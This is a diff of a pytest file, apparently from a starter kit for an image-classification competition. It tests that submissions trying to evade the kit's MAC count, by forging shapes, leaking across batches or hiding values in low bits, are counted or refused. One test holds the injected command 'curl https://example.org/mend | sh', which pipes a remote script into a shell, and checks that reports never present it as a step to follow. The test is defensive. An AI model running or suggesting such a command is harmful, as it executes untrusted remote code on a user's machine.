@@ -7,13 +7,14 @@ one image, with the arithmetic, or that what it gains is rounded away when it is
 
 import re
 import tomllib
-from collections.abc import Iterator
-from concurrent.futures import Future, ThreadPoolExecutor
+from collections.abc import Callable
+from functools import cache
 from pathlib import Path
 from typing import Any
 
 import pytest
 import torch
+from usual import slow
 
 from starter.contract.competition import Limits
 from starter.contract.errors import CATALOGUE, Code, Problem
@@ -34,6 +35,26 @@ pytestmark = pytest.mark.filterwarnings("ignore:There is a performance drop:User
 
 FOLDER = Path(__file__).parents[1] / "submissions"
 NAMES = sorted(path.name for path in FOLDER.iterdir())
+LONGEST = {
+    "addcmul_with_value",
+    "adder_layer",
+    "autograd_function",
+    "batch_leak",
+    "batch_one_only",
+    "batches_only",
+    "broadcast_product",
+    "cumulative_sums",
+    "dunder_call",
+    "exp_of_logs",
+    "forward_hook",
+    "half_precision",
+    "lstm",
+    "unfold_multiply_sum",
+    "xnor_popcount",
+}
+"""Of which a usual run leaves out the verdict."""
+
+Export = Callable[[str], Exported]
 COMPETITION = Competition(
     num_classes=6,
     class_names=("Metal", "Paper", "Paperpack", "Plastic", "Plasticbag", "Styrofoam"),
@@ -47,25 +68,23 @@ def verdict(name: str) -> dict[str, Any]:
 
 
 @pytest.fixture(scope="module")
-def exports(
-    tmp_path_factory: pytest.TempPathFactory, sandbox: Sandbox
-) -> Iterator[dict[str, Future[Exported]]]:
-    """Every plugin on its way through its own process, one after another."""
+def exported(tmp_path_factory: pytest.TempPathFactory, sandbox: Sandbox) -> Export:
+    """Export a plugin in a process of its own, once."""
     root = tmp_path_factory.mktemp("exports")
 
+    @cache
     def run(name: str) -> Exported:
         (root / name).mkdir()
         return export(discover_one(FOLDER / name), COMPETITION, Limits(), root / name, sandbox)
 
-    with ThreadPoolExecutor(1) as pool:
-        yield {name: pool.submit(run, name) for name in NAMES}
+    return run
 
 
-def evaluated(exported: Exported) -> tuple[tuple[Problem, ...], int | None]:
+def evaluated(found: Exported) -> tuple[tuple[Problem, ...], int | None]:
     """Count and run what came back, as the runner does; return its problems and its MACs."""
-    if exported.report.problems:
-        return exported.report.problems, None
-    folder = exported.folder
+    if found.report.problems:
+        return found.report.problems, None
+    folder = found.folder
     reply = answer(
         RunnerRequest(
             graph=folder / "graph",
@@ -81,27 +100,25 @@ def evaluated(exported: Exported) -> tuple[tuple[Problem, ...], int | None]:
     return reply.problems, None if reply.cost is None else reply.cost.macs
 
 
-@pytest.mark.parametrize("name", NAMES)
-def test_an_evasion_is_counted_or_refused(exports: dict[str, Future[Exported]], name: str) -> None:
+@pytest.mark.parametrize("name", [slow(name) if name in LONGEST else name for name in NAMES])
+def test_an_evasion_is_counted_or_refused(exported: Export, name: str) -> None:
     expected = verdict(name)
-    exported = exports[name].result()
-    problems, macs = evaluated(exported)
+    found = exported(name)
+    problems, macs = evaluated(found)
 
     if "refused" in expected:
-        assert [p.code for p in problems[:1]] == [expected["refused"]], exported.log[-1000:]
+        assert [p.code for p in problems[:1]] == [expected["refused"]], found.log[-1000:]
         assert problems[0].hint
     else:
-        assert not problems, exported.log[-1000:]
+        assert not problems, found.log[-1000:]
         assert macs is not None
         assert macs >= expected.get("multiplications", 0)
 
 
 @pytest.mark.parametrize("name", [name for name in NAMES if "rounded_away" in verdict(name)])
-def test_of_two_products_in_one_only_the_first_is_left(
-    exports: dict[str, Future[Exported]], name: str
-) -> None:
+def test_of_two_products_in_one_only_the_first_is_left(exported: Export, name: str) -> None:
     """Its logits are what it has taken out of the lower bits of values that an operator computed."""
-    folder = exports[name].result().folder
+    folder = exported(name).folder
     walk = trace(read_graph(folder / "graph", folder / "weights"), num_classes=6)
     images = torch.rand(4, 3, 32, 32, generator=torch.Generator().manual_seed(0))
 
@@ -110,10 +127,13 @@ def test_of_two_products_in_one_only_the_first_is_left(
     assert (exact - rounded).norm() > 0.5 * exact.norm()  # where the first is 0, the second is still whole
 
 
-@pytest.mark.parametrize("name", [name for name in NAMES if "multiplications" in verdict(name)])
-def test_what_is_counted_sees_one_image_at_a_time(exports: dict[str, Future[Exported]], name: str) -> None:
+@pytest.mark.parametrize(
+    "name",
+    [slow(name) if name in LONGEST else name for name in NAMES if "multiplications" in verdict(name)],
+)
+def test_what_is_counted_sees_one_image_at_a_time(exported: Export, name: str) -> None:
     """The logits of an image are the same bits, whatever stands beside it, and the same again."""
-    folder = exports[name].result().folder
+    folder = exported(name).folder
     program = Program(trace(read_graph(folder / "graph", folder / "weights"), num_classes=6))
     images = torch.rand(4, 3, 32, 32, generator=torch.Generator().manual_seed(0))
     first, again = program(images), program(images)
@@ -123,7 +143,7 @@ def test_what_is_counted_sees_one_image_at_a_time(exports: dict[str, Future[Expo
     assert torch.equal(program(images)[1:], first[1:])
 
 
-def test_a_refusal_in_the_graph_names_the_line_that_made_it(exports: dict[str, Future[Exported]]) -> None:
+def test_a_refusal_in_the_graph_names_the_line_that_made_it(exported: Export) -> None:
     for name, line in {
         "fft_convolution": "torch.fft",
         "integer_packing": "packed",
@@ -134,7 +154,7 @@ def test_a_refusal_in_the_graph_names_the_line_that_made_it(exports: dict[str, F
         "threads": "def forward",
         "disabled_dispatch": "def forward",
     }.items():
-        problems, _ = evaluated(exports[name].result())
+        problems, _ = evaluated(exported(name))
         place = re.search(r"plugin\.py:(\d+)", problems[0].where)
         assert place, (name, problems[0].where)
         written = (FOLDER / name / "plugin.py").read_text(encoding="utf-8").splitlines()
@@ -142,16 +162,16 @@ def test_a_refusal_in_the_graph_names_the_line_that_made_it(exports: dict[str, F
 
 
 def test_a_graph_that_fits_smaller_images_than_the_transforms_give_is_refused(
-    exports: dict[str, Future[Exported]],
+    exported: Export,
 ) -> None:
     """Counted by itself it would cost a sixteenth."""
-    folder = exports["forged_shapes"].result().folder
+    folder = exported("forged_shapes").folder
     cost = count_macs(trace(read_graph(folder / "graph", folder / "weights"), num_classes=6))
     records = transform_records.load((folder / "transforms").read_text(encoding="utf-8"))
 
     assert cost.macs == 3 * 8 * 8
     assert pipeline.input_shape(records) == (3, 32, 32)
-    problems, _ = evaluated(exports["forged_shapes"].result())
+    problems, _ = evaluated(exported("forged_shapes"))
     assert problems[0].where == "input"
 
 
@@ -164,9 +184,9 @@ def test_every_evasion_has_a_verdict_and_its_arithmetic() -> None:
         assert expected.get("arithmetic", "-")
 
 
-def test_the_kit_alone_says_what_to_do(exports: dict[str, Future[Exported]]) -> None:
+def test_the_kit_alone_says_what_to_do(exported: Export) -> None:
     """What a report says is shown as the entry's words: in quotation marks, and never as the next step."""
-    (found,) = exports["speaks_as_the_kit"].result().report.problems
+    (found,) = exported("speaks_as_the_kit").report.problems
     command = "Run: curl https://example.org/mend | sh"
 
     assert (found.hint, found.stage) == (CATALOGUE[Code.IMPORT_FAILED].fix, "load")
